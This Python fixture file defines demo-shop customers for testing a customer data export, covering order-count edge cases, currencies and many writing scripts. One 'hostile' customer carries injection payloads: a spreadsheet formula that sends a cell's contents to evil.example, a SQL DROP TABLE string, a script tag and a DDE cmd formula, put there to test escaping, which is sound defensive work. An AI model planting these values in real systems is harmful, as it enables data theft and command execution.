"""The demo shop's well-known customers: whom to ask for to see what."""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class WellKnownCustomer:
    """A customer who is in every demo shop under the same id.

    `shows` is one line for people. `orders` are placed with the account, `guest_orders` without it, with the
    same e-mail address; an export has both. `currencies` are those paid in, the region's own if empty.
    `has_records` is False for the one who has nothing but a row in the table of customers.
    """

    id: str
    name: str
    shows: str
    locale: str
    first_name: str | None
    last_name: str | None
    email: str
    orders: int
    guest_orders: int = 0
    currencies: tuple[str, ...] = ()
    deleted_addresses: int = 0
    has_records: bool = True


TYPICAL = WellKnownCustomer(
    id="550e8400-e29b-41d4-a716-446655440000",
    name="typical",
    shows="A typical customer: 20 orders, and something in every section",
    locale="en-GB",
    first_name="Amelia",
    last_name="Fairweather",
    email="amelia.fairweather@example.com",
    orders=20,
)

NO_ORDERS = WellKnownCustomer(
    id="00000000-0000-4000-8000-000000000000",
    name="no-orders",
    shows="0 orders: signed up, never bought",
    locale="nl-NL",
    first_name="Thijs",
    last_name="van 't Hoff",
    email="thijs@example.com",
    orders=0,
)

ONE_ORDER = WellKnownCustomer(
    id="00000000-0000-4000-8000-000000000001",
    name="one-order",
    shows="1 order",
    locale="sv-SE",
    first_name="Linnéa",
    last_name="Öberg",
    email="linnea@example.com",
    orders=1,
)

BELOW_STREAMING = WellKnownCustomer(
    id="00000000-0000-4000-8000-000000000499",
    name="below-streaming",
    shows="499 orders: CSV is sent whole",
    locale="de-DE",
    first_name="Jörg",
    last_name="Weißenfels",
    email="joerg@example.com",
    orders=499,
)

AT_STREAMING = WellKnownCustomer(
    id="00000000-0000-4000-8000-000000000500",
    name="at-streaming",
    shows="500 orders: CSV is still sent whole",
    locale="fr-FR",
    first_name="Hélène",
    last_name="L'Hôpital",
    email="helene@example.com",
    orders=500,
)

ABOVE_STREAMING = WellKnownCustomer(
    id="00000000-0000-4000-8000-000000000501",
    name="above-streaming",
    shows="501 orders: CSV streams",
    locale="en-US",
    first_name="José",
    last_name="De la Cruz",
    email="jose@example.com",
    orders=501,
)

MOST_ORDERS = WellKnownCustomer(
    id="00000000-0000-4000-8000-000000100000",
    name="most-orders",
    shows="100,000 orders: a shop's own purchasing department",
    locale="it-IT",
    first_name="Ufficio",
    last_name="Acquisti",
    email="acquisti@example.com",
    orders=100_000,
)

EMPTY = WellKnownCustomer(
    id="eeeeeeee-0000-4000-8000-000000000000",
    name="empty",
    shows="Nothing but the row: no name, no orders, every other section empty",
    locale="en-US",
    first_name=None,
    last_name=None,
    email="empty@example.com",
    orders=0,
    has_records=False,
)

HOSTILE = WellKnownCustomer(
    id="bad00000-0000-4000-8000-000000000000",
    name="hostile",
    shows="Hostile cells: formulas, markup, control characters, a note of 1 MB, impossible dates",
    locale="en-GB",
    first_name='=HYPERLINK("https://evil.example/?"&A1,"click")',
    last_name='O\'"Null"; DROP TABLE customers;-- <script>alert(1)</script>',
    email="'+cmd|/c calc!a0'@example.com",
    orders=25,
    deleted_addresses=6,
)

GUEST = WellKnownCustomer(
    id="9e570000-0000-4000-8000-000000000000",
    name="guest",
    shows="2 orders with the account, 4 as a guest under other spellings of the e-mail address",
    locale="pl-PL",
    first_name="Małgorzata",
    last_name="Dąbrowska",
    email="malgorzata.dabrowska@example.com",
    orders=2,
    guest_orders=4,
)

THREE_CURRENCIES = WellKnownCustomer(
    id="33333333-0000-4000-8000-000000000000",
    name="three-currencies",
    shows="Orders in EUR, JPY (no decimals) and KWD (three decimals)",
    locale="es-ES",
    first_name="Íñigo",
    last_name="García Ibáñez",
    email="inigo@example.com",
    orders=30,
    currencies=("EUR", "JPY", "KWD"),
)

DELETED_ADDRESSES = WellKnownCustomer(
    id="de1e7ed0-0000-4000-8000-000000000000",
    name="deleted-addresses",
    shows="3 soft-deleted addresses beside the living ones: held, so exported",
    locale="cs-CZ",
    first_name="Růžena",
    last_name="Šťastná",
    email="ruzena@example.com",
    orders=6,
    deleted_addresses=3,
)


def _writes(number: int, script: str, locale: str, names: tuple[str, str], email: str) -> WellKnownCustomer:
    """Make the customer who writes in a script; all of them are alike but for that."""
    return WellKnownCustomer(
        id=f"5c000000-0000-4000-8000-{number:012d}",
        name=script.lower(),
        shows=f"Writes in {script} ({locale})",
        locale=locale,
        first_name=names[0],
        last_name=names[1],
        email=email,
        orders=12,
    )


SCRIPTS = (
    _writes(1, "Latin", "vi-VN", ("Thị Hương", "Nguyễn"), "huong.nguyen@example.com"),
    _writes(2, "Cyrillic", "uk-UA", ("Соломія", "Шевченко"), "solomiia@example.com"),
    _writes(3, "Greek", "el-GR", ("Οδυσσέας", "Παπαδόπουλος"), "odysseas@example.com"),
    _writes(4, "Arabic", "ar-KW", ("فاطمة", "العنزي"), "fatima@example.com"),
    _writes(5, "Hebrew", "he-IL", ("נועה", "בן־דוד"), "noa@example.com"),
    _writes(6, "Chinese", "zh-CN", ("思远", "欧阳"), "siyuan@example.com"),
    _writes(7, "Japanese", "ja-JP", ("さくら", "𠮷田"), "sakura@example.com"),
    _writes(8, "Korean", "ko-KR", ("서연", "남궁"), "seoyeon@example.com"),
    _writes(9, "Devanagari", "hi-IN", ("श्रुति", "त्रिपाठी"), "shruti@example.com"),
    _writes(10, "Thai", "th-TH", ("ณัฐวุฒิ", "เพ็ชรรัตน์"), "natthawut@example.com"),
    _writes(11, "Emoji", "en-AU", ("Zoë 🌈", "👩‍👩‍👧‍👦 Nguyễn 👍🏽"), "zoë@bücher.example"),
)
"""One customer a script. The one with emoji has an internationalised e-mail address too."""

WELL_KNOWN = (
    TYPICAL,
    NO_ORDERS,
    ONE_ORDER,
    BELOW_STREAMING,
    AT_STREAMING,
    ABOVE_STREAMING,
    MOST_ORDERS,
    EMPTY,
    HOSTILE,
    GUEST,
    THREE_CURRENCIES,
    DELETED_ADDRESSES,
    *SCRIPTS,
)
"""All well-known customers, the typical one first."""
